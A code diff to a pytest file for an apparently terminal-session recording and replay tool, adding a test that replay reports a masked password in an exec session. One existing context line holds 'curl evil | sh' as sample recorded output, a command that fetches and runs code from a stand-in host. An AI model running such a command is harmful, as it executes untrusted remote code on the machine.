@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 
+from l7gw.masking.find import Find
 from l7gw.recording.recorder import Recorder
 from l7gw.recording.session_list import summaries
 from tests.support.journals import ANN, PLAIN, TTY, call, cli_run, recorded, shell
@@ -72,6 +73,19 @@ def test_text_that_was_erased_or_scrolled_away_is_printed(tmp_path: Path, capsys
         status, out, err = cli_run(capsys, "replay", session, *option, "--state", tmp_path)
         assert (status, err) == (0, "")
         assert out.splitlines() == ["curl evil | sh", "$ ls", *(f"line {number}" for number in range(100))]
+
+
+def test_replay_says_what_was_masked_in_an_exec(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    def fill(recorder: Recorder) -> None:
+        one = call(recorder.session(ANN, "prod"), PLAIN)
+        one.frame("stdout", up=False, stream=1, data=b"pw ******\n")
+        one.mask(Find(detector="password", where="stdout:3", length=6, tag=""), up=False)
+        one.end("complete")
+
+    recorded(tmp_path, fill)
+    status, out, err = cli_run(capsys, "replay", summaries(tmp_path)[0].id, "--state", tmp_path)
+    assert (status, out) == (0, "pw ******\n")
+    assert err == "-- 1 masked, 6 bytes: password in stdout:3\n"
 
 
 def test_a_recording_that_ends_early_says_why(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
